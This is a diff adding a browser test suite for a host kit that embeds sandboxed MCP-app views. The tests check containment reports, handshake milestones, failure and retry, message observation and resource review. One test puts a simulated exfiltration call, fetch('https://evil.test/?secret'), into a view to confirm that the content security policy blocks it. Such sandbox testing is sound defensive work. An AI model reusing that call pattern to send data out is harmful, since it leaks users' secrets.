@@ -1,0 +1,255 @@
+// What a person may be shown of a surface: what it asked for and got, how far it came, and what it did.
+import { createHash } from 'node:crypto';
+import type { UIResourcePart } from '@vitrine/protocol';
+import type { Page } from 'playwright-core';
+import { afterAll, beforeAll, expect, test } from 'vitest';
+import { type HostPages, openHostPages } from '../../../test/support/host-page.ts';
+import type * as kitModule from './index.ts';
+import type { SurfaceEvent } from './observe.ts';
+
+interface Globals {
+  kit: typeof kitModule;
+  surface: kitModule.Surface;
+  events: SurfaceEvent[];
+  /** Every milestone of the snapshots, once each time it changed. */
+  milestones: (string | undefined)[];
+  /** What `onResource` was given, and what it answers. */
+  reviewed: { hash: string; content: string }[];
+  allows: boolean;
+}
+
+let pages: HostPages;
+beforeAll(async () => {
+  pages = await openHostPages();
+});
+afterAll(() => pages?.close());
+
+/** A view that does as much of the handshake as it is told, then `rest`. */
+const VIEW = (steps: 'none' | 'initialize' | 'all', rest = '') => `<!doctype html><p>view</p><script>
+  const post = m => parent.postMessage({ jsonrpc: '2.0', ...m }, '*');
+  addEventListener('message', ({ data }) => {
+    if (data.id === 'init' && '${steps}' === 'all') { post({ method: 'ui/notifications/initialized', params: {} }); ${rest} }
+    if (data.method === 'ui/resource-teardown') post({ id: data.id, result: {} });
+  });
+  if ('${steps}' !== 'none') post({ id: 'init', method: 'ui/initialize', params: { appInfo: { name: 'v', version: '1' }, appCapabilities: {}, protocolVersion: '2026-01-26' } });
+</script>`;
+
+async function show(
+  more: Partial<UIResourcePart>,
+  { handshakeTimeoutMs = 10_000, reviews = false }: { handshakeTimeoutMs?: number; reviews?: boolean } = {},
+): Promise<Page> {
+  const { page } = await pages.open();
+  const part: UIResourcePart = {
+    type: 'ui-resource',
+    uri: 'ui://observe/view',
+    server: 'observe',
+    mimeType: 'text/html;profile=mcp-app',
+    source: 'tool',
+    ...more,
+  };
+  await page.evaluate(
+    ({ part, template, handshakeTimeoutMs, reviews }) => {
+      const w = window as unknown as Globals;
+      Object.assign(w, { events: [], milestones: [], reviewed: [], allows: false });
+      const host = w.kit.createHost({
+        sandbox: { template },
+        info: { name: 'h', version: '1' },
+        handshakeTimeoutMs,
+        observe: event => w.events.push(event),
+        optIns: server => (server === 'observe' ? ['wasm'] : []),
+        grantPermissions: ({ clipboardWrite }) => (clipboardWrite ? { clipboardWrite } : {}),
+        ...(reviews && {
+          onResource: ({ hash, content }) => {
+            w.reviewed.push({ hash, content });
+            return w.allows;
+          },
+        }),
+        onAction: async () => {
+          throw new w.kit.ActionRefused('Not today.');
+        },
+      });
+      w.surface = host.surface({ id: 'call', part, tool: { name: 't' } });
+      w.surface.fallback.textContent = 'the tool’s own text';
+      w.surface.setInput({ a: 1 });
+      w.surface.setResult({ content: [{ type: 'text', text: 'done' }] });
+      w.surface.subscribe(() => {
+        const { milestone } = w.surface.getSnapshot();
+        if (w.milestones.at(-1) !== milestone) w.milestones.push(milestone);
+      });
+      w.surface.show(document.querySelector('#root') as HTMLElement);
+    },
+    { part, template: pages.template, handshakeTimeoutMs, reviews },
+  );
+  return page;
+}
+
+const state = (page: Page, wanted: string) =>
+  page.waitForSelector(`[data-surface-id][data-surface-state="${wanted}"]`, { state: 'attached' });
+const milestones = (page: Page) => page.evaluate(() => (window as unknown as Globals).milestones);
+const containment = (page: Page) =>
+  page.evaluate(() => (window as unknown as Globals).surface.getSnapshot().containment);
+/** Waits for an event that has these fields, and gives it. */
+const event = async (page: Page, fields: Partial<Record<string, unknown>>) => {
+  const found = await page.waitForFunction(
+    wanted =>
+      (window as unknown as { events: Record<string, unknown>[] }).events.find(seen =>
+        Object.entries(wanted).every(([name, value]) => seen[name] === value),
+      ),
+    fields,
+  );
+  return found.jsonValue();
+};
+
+test('containment says from the start what was asked and granted, and then where the view runs and what it is', async () => {
+  const content = VIEW('all', '/* Grüße ☂ */');
+  const page = await show({
+    content,
+    metadata: {
+      ui: {
+        csp: { connectDomains: ['https://ok.test', '*'], frameDomains: ['https://frame.test'] },
+        permissions: { clipboardWrite: {}, camera: {} },
+        domain: 'app',
+      },
+    },
+  });
+  const start = {
+    requested: {
+      csp: { connectDomains: ['https://ok.test', '*'], frameDomains: ['https://frame.test'] },
+      permissions: { clipboardWrite: {}, camera: {} },
+      domain: 'app',
+    },
+    granted: {
+      csp: { connectDomains: ['https://ok.test'], resourceDomains: [], frameDomains: [], baseUriDomains: [] },
+      permissions: { clipboardWrite: {} },
+      optIns: ['wasm'],
+      dedicated: true,
+    },
+    refused: ['*', 'https://frame.test'],
+  };
+  expect(await containment(page)).toMatchObject(start);
+  await state(page, 'ready');
+  const frame = page.frames().find(f => f.parentFrame() === page.mainFrame())!;
+  expect(await containment(page)).toEqual({
+    ...start,
+    origin: new URL(frame.url()).origin,
+    hash: createHash('sha256').update(content).digest('hex'),
+  });
+  await page.close();
+});
+
+test('a resource that asks for nothing is granted nothing', async () => {
+  const page = await show({ content: '<p>static</p>', server: 'other' });
+  expect(await containment(page)).toMatchObject({
+    requested: {},
+    granted: { permissions: {}, optIns: [], dedicated: false },
+    refused: [],
+  });
+  await state(page, 'ready');
+  expect(await milestones(page)).toEqual(['resource', 'html']);
+  await page.close();
+});
+
+test('the milestone follows the run', async () => {
+  const page = await show({ content: VIEW('all') });
+  await state(page, 'ready');
+  await page.waitForFunction(() => (window as unknown as Globals).surface.getSnapshot().milestone === 'result');
+  expect(await milestones(page)).toEqual(['resource', 'html', 'initialize', 'initialized', 'input', 'result']);
+  await page.close();
+});
+
+test.each([
+  ['resource', { ref: '0'.repeat(64) }],
+  ['html', { content: VIEW('none', 'ui/initialize') }],
+  ['initialize', { content: VIEW('initialize') }],
+] as const)(
+  'a surface that fails says that it stopped at %s, shows the tool’s text, and can be tried again',
+  async (milestone, part) => {
+    const page = await show(part, { handshakeTimeoutMs: 1500 });
+    await state(page, 'failed');
+    const box = page.locator('[data-surface-id]');
+    expect(await box.getByRole('status').textContent()).toMatch(new RegExp(`It stopped at: ${milestone}\\.`));
+    expect(await page.evaluate(() => (window as unknown as Globals).surface.getSnapshot().milestone)).toBe(milestone);
+    expect(await box.getByText('the tool’s own text').isVisible()).toBe(true);
+    if (milestone !== 'resource') {
+      await box.getByRole('button', { name: 'Try again' }).click();
+      await page.waitForFunction(
+        wanted => (window as unknown as Globals).milestones.join().includes(`${wanted},resource,html`),
+        milestone,
+      );
+    }
+    await page.close();
+  },
+);
+
+test('every message is observed, those of the first handshake that the sandbox says itself included', async () => {
+  const page = await show({ content: VIEW('all') });
+  await page.waitForFunction(() => (window as unknown as Globals).surface.getSnapshot().milestone === 'result');
+  const seen = await page.evaluate(() =>
+    (window as unknown as Globals).events.flatMap(event => {
+      if (event.type !== 'message') return [];
+      const { method, result } = event.message as { method?: string; result?: object };
+      return [`${event.direction} ${method ?? Object.keys(result ?? {})}`];
+    }),
+  );
+  expect(seen).toEqual([
+    'in ui/initialize',
+    'out protocolVersion,hostInfo,hostCapabilities,hostContext',
+    'in ui/notifications/initialized',
+    'out ui/notifications/tool-input',
+    'out ui/notifications/tool-result',
+  ]);
+  await page.close();
+});
+
+test('sizes, refusals, drops and what the policy stopped are observed', async () => {
+  const page = await show({
+    content: VIEW(
+      'all',
+      `post({ method: 'ui/notifications/size-changed', params: { height: 1e9 } });
+       post({ id: 'go', method: 'tools/call', params: { name: 'go' } });
+       parent.postMessage({ nonsense: 1 }, '*');
+       fetch('https://evil.test/?secret').catch(() => {});`,
+    ),
+  });
+  expect(await event(page, { type: 'size' })).toEqual({ type: 'size', height: 2000, wanted: { height: 2000 } });
+  expect(await event(page, { type: 'refused' })).toEqual({ type: 'refused', action: 'tool', reason: 'Not today.' });
+  expect(await event(page, { type: 'dropped' })).toEqual({ type: 'dropped', count: 1 });
+  expect(await event(page, { type: 'blocked' })).toMatchObject({
+    type: 'blocked',
+    directive: 'connect-src',
+    target: expect.stringContaining('evil.test'),
+  });
+  await page.close();
+});
+
+test('a view that leaves is observed', async () => {
+  const page = await show({ content: VIEW('all', 'location.reload();') });
+  await event(page, { type: 'navigated' });
+  await state(page, 'failed');
+  await page.close();
+});
+
+test('onResource sees the document before any sandbox does, may refuse it, and is asked again', async () => {
+  const content = VIEW('all');
+  const page = await show({ content }, { reviews: true });
+  await state(page, 'failed');
+  const hash = createHash('sha256').update(content).digest('hex');
+  expect(await page.evaluate(() => (window as unknown as Globals).reviewed)).toEqual([{ hash, content }]);
+  expect(
+    await page.evaluate(() => {
+      const { error, milestone } = (window as unknown as Globals).surface.getSnapshot();
+      return { code: error?.code, retryable: error?.retryable, milestone };
+    }),
+  ).toEqual({ code: 'resource-refused', retryable: true, milestone: 'resource' });
+  expect(
+    await page.evaluate(() => (window as unknown as Globals).events.filter(({ type }) => type === 'message')),
+  ).toEqual([]);
+  await page.evaluate(() => {
+    const w = window as unknown as Globals;
+    w.allows = true;
+    w.surface.retry();
+  });
+  await state(page, 'ready');
+  expect(await page.evaluate(() => (window as unknown as Globals).reviewed.length)).toBe(2);
+  await page.close();
+});
